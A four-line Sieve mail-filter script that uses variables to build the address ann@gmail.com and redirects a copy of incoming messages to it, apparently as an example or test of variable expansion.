require ["variables", "copy"];
set "where" "gmail.com";
set "to" "ann@${where}";
redirect :copy "${to}";
